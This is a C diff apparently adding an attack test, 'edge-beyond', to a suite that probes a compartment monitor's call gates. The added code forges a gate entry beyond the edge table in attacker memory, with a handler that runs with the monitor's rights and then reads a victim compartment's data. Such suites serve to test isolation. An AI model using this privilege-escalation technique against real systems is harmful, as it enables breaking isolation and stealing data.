@@ -61,6 +61,45 @@ static int edge_foreign(uint64_t edge)
 	return loot[0] != before;
 }
 
+/* The words of struct edge that a call by it needs. */
+struct forged_edge {
+	uint64_t handler, entry, callers, rest[5];
+};
+
+/*
+ * Enter the gate at (at), with the number of an edge that lies beyond the
+ * table, in our own memory. Its handler is ours, and runs with the monitor's
+ * rights.
+ */
+static __attribute__((noinline)) void enter_beyond(uint64_t at, uint64_t number)
+{
+	__asm__ volatile("push %%rbx\n push %%rbp\n"
+			 "mov %%rsp, gates_saved(%%rip)\n"
+			 "mov %1, %%r11\n push $0\n jmp *%0\n"
+			 "gates_handler:\n"
+			 "mov gates_saved(%%rip), %%rsp\n"
+			 "pop %%rbp\n pop %%rbx\n"
+			 :
+			 : "D"(at), "S"(number)
+			 : "rax", "rcx", "rdx", "r8", "r9", "r10", "r11", "r12",
+			 "r13", "r14", "r15", "memory");
+}
+
+/* The monitor has its edges at (table). A stub is two instructions; the second
+ * jumps into the gate. */
+static int edge_beyond(uint64_t table)
+{
+	extern char gates_handler[] __attribute__((visibility("hidden")));
+	uint64_t entry = CUBICLE_SPACE_BASE + CUBICLE_STUBS_OFFSET + 6;
+	struct forged_edge *edge =
+		(struct forged_edge *)&loot[512 + table % 64 / 8];
+
+	edge->handler = (uintptr_t)gates_handler;
+	edge->callers = ~0ull;
+	enter_beyond(entry, ((uintptr_t)edge - table) / sizeof(*edge));
+	return steal(victim.data);
+}
+
 /* A function of the victim that it does not export, in its middle. */
 static int run_victim(uint64_t arg)
 {
@@ -131,6 +170,7 @@ const struct attack attacks_here[] = {
 	{"victim-key", with_victim_key},
 	{"all-keys", with_all_keys},
 	{"edge-foreign", edge_foreign},
+	{"edge-beyond", edge_beyond},
 	{"run-victim", run_victim},
 	{"victim-stack", victim_stack},
 	{"run-monitor", run_monitor},
